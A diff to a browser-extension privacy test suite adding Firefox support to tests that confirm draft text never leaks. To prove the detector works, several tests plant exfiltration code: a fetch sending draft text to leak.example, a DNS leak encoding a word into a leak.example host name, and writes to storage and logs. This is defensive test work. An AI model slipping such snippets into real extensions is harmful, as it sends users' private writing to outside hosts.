@@ -10,6 +10,7 @@ import { fixture, fixtures, type Fixture } from './editors';
 import { draftWith, filesWith, forms, freshToken, kept, listen, sentWith, useAll } from './leaks';
 import { expect, Look, test } from './look';
 import { startSite, type Site } from './site';
+import { isFirefox, onlyChromium } from './which';
 import { freshProfile } from './world';
 
 /** Everywhere the token was found after a worker used these editors. */
@@ -35,6 +36,9 @@ async function searched(site: Site, editors: Fixture[], extension?: string): Pro
   return found;
 }
 
+/** Chromium writes down each request. */
+const logged = (): string[] => (isFirefox() ? [] : ['file net-log.json']);
+
 const few = [fixture('x'), fixture('textarea')];
 const all = [...fixtures, ...['tinymce', 'shadow-open', 'gutenberg'].map(fixture)];
 
@@ -44,7 +48,7 @@ test('no request, name, header, log or store carries a word of a draft', async (
   expect(await searched(site, all)).toEqual([]);
   expect(site.seen.filter((s) => s.url === '/posted').length, 'the pages did post').toBe(all.length);
   // The browser asks its maker for updates of its own; the token is looked for there too.
-  const hosts = new Set(site.seen.map((s) => s.host.replace(/:\d+$/, '')).filter((h) => !/\.(google|googleapis|gvt1)\.com$/.test(h)));
+  const hosts = new Set(site.seen.map((s) => s.host.replace(/:\d+$/, '')).filter((h) => !/\.((google|googleapis|gvt1)\.com|mozilla\.(com|net|org))$/.test(h)));
   expect([...hosts].sort(), 'nobody but the pages was talked to').toEqual(['127.0.0.1', 'bsky.app', 'forum.example', 'mastodon.social', 'x.com']);
   await site.close();
 });
@@ -56,7 +60,7 @@ test('a leak planted in the background is caught: a request', async ({ site }) =
       if (m?.t === 'check') fetch('https://leak.example/?' + encodeURIComponent(m.text), { mode: 'no-cors' }).catch(() => 0);
     });`);
   });
-  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['request GET leak.example', 'file net-log.json']));
+  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['request GET leak.example', ...logged()]));
 });
 
 test('a leak planted in the content script is caught: a host name', async ({ site }) => {
@@ -65,7 +69,7 @@ test('a leak planted in the content script is caught: a host name', async ({ sit
     const word = text.split(' ').pop();
     if (word.length === 20) fetch('https://' + word + '.leak.example/', { mode: 'no-cors' }).catch(() => 0);
   }, true);`));
-  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['name', 'file net-log.json']));
+  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['name', ...logged()]));
 });
 
 test('a leak planted in the background is caught: a store', async ({ site }) => {
@@ -75,10 +79,11 @@ test('a leak planted in the background is caught: a store', async ({ site }) => 
     open.onupgradeneeded = () => open.result.createObjectStore('n', { autoIncrement: true });
     open.onsuccess = () => open.result.transaction('n', 'readwrite').objectStore('n').add({ text: m.text });
   });`));
-  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['kept by the extension', expect.stringContaining('file Default/')]));
+  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['kept by the extension', expect.stringMatching(isFirefox() ? '^file storage/' : '^file Default/')]));
 });
 
 test('a leak planted in the background is caught: a log', async ({ site }) => {
+  onlyChromium('what a background of Firefox logs, nobody tells a driver');
   const bad = copy('leak-log', (dir) => prepend(dir, 'background.js', `chrome.runtime.onMessage.addListener((m) => {
     if (m?.t === 'check') console.warn('no verdict for', m.text);
   });`));
